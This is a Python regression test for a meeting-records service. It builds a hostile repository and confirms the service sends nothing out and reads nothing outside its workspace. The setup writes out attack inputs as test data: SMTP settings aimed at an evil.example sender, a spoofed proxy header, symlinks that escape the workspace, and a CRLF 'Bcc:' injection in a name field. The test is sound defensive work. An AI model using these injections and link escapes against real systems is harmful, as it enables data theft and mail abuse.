"""A hostile clone: a record with every trick of issue 19 committed is cloned, served, built and packed.
Nothing leaves the workspace, nothing is sent anywhere (an attacker's SMTP server on 127.0.0.1 hears
nothing), and the service ignores each setting, or refuses to start, with a clear line in its log."""
from __future__ import annotations

import os
import subprocess

import yaml
from conftest import git
from local_smtp import Catcher
from web_server import GOVDOCS, Client, Server, link_for, wait_for


def files_under(folder) -> set[str]:
    return {str(p) for p in folder.rglob("*")}


def test_a_hostile_clone_is_served_and_built_without_anything_leaving_it(record, tmp_path):
    root, gd, item, mine = record
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "stolen.yaml").write_text("id: SEND-PB-2030-01-10-9z\nboard: send-pb\nmeeting: '2030-01-10'\n"
                                         "item: '5'\ntext: Zqoutside text\nowners: [OW]\nstatus: open\n")
    with Catcher() as attacker:
        cfg = yaml.safe_load((root / "govdocs.yaml").read_text())
        cfg["smtp"] = {"host": "127.0.0.1", "port": attacker.port, "starttls": False, "from": "x@evil.example"}
        cfg["web"] = {"trusted_proxy": "127.0.0.1", "proxy_header": "X-Forwarded-Email", "link_minutes": 9999}
        cfg["clerks"] = ["OW"]
        (root / "govdocs.yaml").write_text(yaml.safe_dump(cfg))
        folder = root / "meetings/send-pb/2030-01-10"
        raw = yaml.safe_load((folder / "meeting.yaml").read_text())
        raw["items"][-1]["papers"] = [{"file": "papers/people.yaml", "title": "Everyone"}]
        (folder / "meeting.yaml").write_text(yaml.safe_dump(raw))
        os.symlink("../../../..", folder / "papers")  # the workspace's own top, by a relative link
        os.symlink(outside, root / "site")
        os.symlink(outside / "stolen.yaml", root / "actions/send-pb/SEND-PB-2030-01-10-9z.yaml")
        people = (root / "people.yaml").read_text().replace("name: Priya Quinn",
                                                            'name: "Priya\\r\\nBcc: all@evil.example"')
        (root / "people.yaml").write_text(people)
        git(root, "add", "-A")
        git(root, "commit", "-qm", "an innocent-looking pull")

        clone = tmp_path / "clone"
        git(tmp_path, "clone", "-q", str(root), str(clone))
        before = files_under(outside)
        with Server(clone) as server:
            assert server.running, server.log
            for address in ("olu@example.org", "priya@example.org", "jo@example.org"):
                assert Client(server).post("/sign-in", {"email": address})[0] == 200
            owner = Client(server)
            assert owner.sign_in(link_for(server, clone, "olu@example.org")) == 303
            assert owner.get("/boards/send-pb/2030-01-10/papers/people.yaml")[0] == 404
            assert "Zqoutside" not in owner.get("/")[1]
            proxied = Client(server, headers={"X-Forwarded-Email": "jo@example.org"})
            assert proxied.get("/")[0] == 303
            assert owner.post(f"/actions/{mine}", {"csrf": owner.csrf(f"/actions/{mine}"),
                                                   "note": "Still on track"})[0] == 303
            assert wait_for(lambda: "line break" in server.log)
        log = server.log
        for key in ("smtp", "web", "clerks"):
            assert f"govdocs.yaml sets {key}:, which is ignored" in log
        assert "clerks: JK" in log and "no proxy sign-in" in log and "links live 30 minutes" in log
        assert "Traceback" not in log
        site = subprocess.run([*GOVDOCS, "site", "-o", "site", "--base-url", "https://d.example"], cwd=clone,
                              capture_output=True, text=True)
        assert site.returncode == 2 and "symbolic link" in site.stderr
        pack = subprocess.run([*GOVDOCS, "pack", "2030-01-10"], cwd=clone, capture_output=True, text=True)
        assert pack.returncode != 0 and "symbolic link" in pack.stderr and "Traceback" not in pack.stderr
        listed = subprocess.run([*GOVDOCS, "actions", "--status", "all"], cwd=clone, capture_output=True, text=True)
        assert "Zqoutside" not in listed.stdout
        remind = subprocess.run([*GOVDOCS, "remind", "--send", "--days", "30", "--base-url", "https://g.example"],
                                cwd=clone, capture_output=True, text=True)
        assert remind.returncode != 0 and "no SMTP server" in remind.stderr
        assert attacker.got == []  # nothing was sent to the server the record named
        assert files_under(outside) == before  # nothing was written outside the workspace

        # the same clone with a secret committed under .govdocs/: the service will not start on it
        (root / ".govdocs").mkdir(exist_ok=True)
        (root / ".govdocs" / "secret").write_text("known-to-the-attacker\n")
        git(root, "add", "-f", ".govdocs/secret")
        git(root, "commit", "-qm", "a key the attacker knows")
        fresh = tmp_path / "fresh-clone"
        git(tmp_path, "clone", "-q", str(root), str(fresh))
        server = Server(fresh)
        log = server.stop()
        assert server.proc.returncode != 0 and "committed to the record" in log and "Traceback" not in log
